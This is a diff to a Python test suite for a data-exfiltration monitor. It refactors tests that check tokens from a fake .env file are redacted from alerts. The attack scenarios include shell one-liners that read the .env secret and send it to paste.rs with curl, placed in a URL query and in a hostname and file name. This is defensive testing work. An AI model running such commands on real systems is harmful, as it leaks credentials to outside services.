@@ -64,17 +64,23 @@ def test_key_on_command_line_is_redacted(case, monitor, standin, fake_home, tmp_
 ENV_TOKEN = "Zq7mW2xP9vK4tR8nB3yL"
 
 
-def test_token_of_a_file_read_is_redacted_wherever_it_sits(monitor, standin, fake_home, tmp_path):
+def run_with_env_token(token, case, monitor, standin, fake_home, tmp_path):
+    """Writes ~/app/.env holding `token` (its first value, which the case's command reads), runs
+    the attack case and checks that the token is nowhere in the output; returns its alerts."""
     env = fake_home.path / "app" / ".env"
     env.parent.mkdir(parents=True, exist_ok=True)
-    env.write_text(f"DEPLOY_KEY={ENV_TOKEN}\nREGION=eu-west-1\n")
+    env.write_text(f"DEPLOY_KEY={token}\nREGION=eu-west-1\n")
+    found = run_attack(case, monitor, standin, fake_home, tmp_path)
+    assert token.encode() not in monitor.output.read_bytes(), "the token is in the output"
+    return found
+
+
+def test_token_of_a_file_read_is_redacted_wherever_it_sits(monitor, standin, fake_home, tmp_path):
     case = Scenario(
         "env-token-in-url-query-to-paste", "alert",
         f'V=$(cut -d= -f2 $HOME/app/.env | head -1); curl -sk {RESOLVE} -d ok "https://paste.rs:8443/?note=$V"',
         technique="T1567.003", domain="paste.rs", uploads=True)
-    found = run_attack(case, monitor, standin, fake_home, tmp_path)
-    output = monitor.output.read_bytes()
-    assert ENV_TOKEN.encode() not in output, "the token is in the output"
+    found = run_with_env_token(ENV_TOKEN, case, monitor, standin, fake_home, tmp_path)
     names = [s.get("name") for a in found for s in get(a, "exfilwatch.signals", [])]
     assert "content-match" in names, names
     execs = [r for r in monitor.records()
@@ -89,17 +95,12 @@ HOST_TOKEN = "q7mw2xp9vk4tr8nb3yl5"
 
 
 def test_token_of_a_file_read_in_a_host_or_file_name_is_redacted(monitor, standin, fake_home, tmp_path):
-    env = fake_home.path / "app" / ".env"
-    env.parent.mkdir(parents=True, exist_ok=True)
-    env.write_text(f"DEPLOY_KEY={HOST_TOKEN}\nREGION=eu-west-1\n")
     case = Scenario(
         "env-token-in-host-and-file-name-to-paste", "alert",
         'V=$(cut -d= -f2 $HOME/app/.env | head -1); mkdir -p $HOME/stage; cp $HOME/app/.env "$HOME/stage/$V.txt"; '
         'curl -sk --resolve "$V.paste.rs:8443:127.0.0.1" --data-binary @"$HOME/stage/$V.txt" "https://$V.paste.rs:8443/"',
         technique="T1567.003", domain=f"{HOST_TOKEN}.paste.rs", uploads=True)
-    found = run_attack(case, monitor, standin, fake_home, tmp_path)
-    output = monitor.output.read_bytes()
-    assert HOST_TOKEN.encode() not in output, "the token is in the output"
+    found = run_with_env_token(HOST_TOKEN, case, monitor, standin, fake_home, tmp_path)
     assert {get(a, "destination.domain") for a in found} == {"[REDACTED].paste.rs"}, found
     assert [r for r in monitor.records() if get(r, "tls.client.server_name") == "[REDACTED].paste.rs"], \
         "the ClientHello record, its name redacted"
